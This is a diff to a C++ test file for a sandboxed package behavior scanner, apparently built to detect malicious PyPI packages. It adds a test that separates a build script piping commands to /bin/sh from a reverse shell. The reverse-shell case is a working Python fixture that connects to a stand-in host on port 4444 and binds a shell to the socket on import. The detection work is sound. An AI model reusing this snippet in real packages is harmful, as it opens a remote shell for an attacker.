@@ -99,7 +99,8 @@ class BehaviorReal : public ::testing::Test {
     return t.is_discarded() ? json::object() : t;
   }
 
-  // The findings of the behavior scanner (its adapter, as the worker runs it) on `archive`.
+  // The findings of the behavior scanner (its adapter, as the worker runs it) on `archive`:
+  // each rule with the strongest severity it fired at.
   std::map<std::string, core::Severity> findings(core::PackageKind kind, const std::string& archive) {
     auto rt = bwrap_runtime(*scratch_, rooms_);
     adapters::BehaviorOptions o;
@@ -114,7 +115,11 @@ class BehaviorReal : public ::testing::Test {
     EXPECT_TRUE(got) << (got ? "" : got.error().message);
     std::map<std::string, core::Severity> out;
     if (!got) return out;
-    for (const core::Finding& f : *got) out[f.reference.value_or("")] = f.severity;
+    // A rule can fire in several phases: the strongest is what decides.
+    for (const core::Finding& f : *got) {
+      auto [it, fresh] = out.emplace(f.reference.value_or(""), f.severity);
+      if (!fresh && f.severity > it->second) it->second = f.severity;
+    }
     return out;
   }
 
@@ -271,6 +276,26 @@ TEST_F(BehaviorReal, a_package_that_writes_and_forks_without_end_is_bounded_and_
   ASSERT_EQ(left.size(), 1U) << t.dump(1);
   EXPECT_GT(left[0].at("count").get<int>(), 10);
   EXPECT_FALSE(phase_named(t, "execute").empty()) << "the detonation went on to its next phase";
+}
+
+// A shell reading its commands from its input is a reverse shell's when that input is a
+// connection, and a build script's when it is a pipe (autoconf's configure feeds /bin/sh so):
+// the observer says which input the shell got, and only the first is a finding.
+TEST_F(BehaviorReal, a_shell_fed_through_a_pipe_is_a_build_s_and_one_on_a_connection_a_reverse_shell) {
+  BATLEHUB_NEED_BWRAP();
+  const std::string piped = "import subprocess\nsubprocess.run(['/bin/sh'], input=b'echo configured\\n')\n";
+  auto build = findings(
+      core::PackageKind::kPypi,
+      behavior_sdist("piped", {file("setup.py", behavior_setup_py("piped", piped)), file("piped/__init__.py", "")}));
+  EXPECT_EQ(build.count("behavior-interactive-shell"), 0U);
+  const std::string init =
+      "import os, socket, subprocess\n"
+      "s = socket.create_connection(('c2.exfil.test', 4444))\n"
+      "subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
+  auto shell =
+      findings(core::PackageKind::kPypi, behavior_sdist("plainsh", {file("setup.py", behavior_setup_py("plainsh", "")),
+                                                                    file("plainsh/__init__.py", init)}));
+  EXPECT_EQ(shell["behavior-interactive-shell"], core::Severity::kHigh);
 }
 
 // PyPI's execute phase: a function nothing calls at import, called with stand-in arguments,
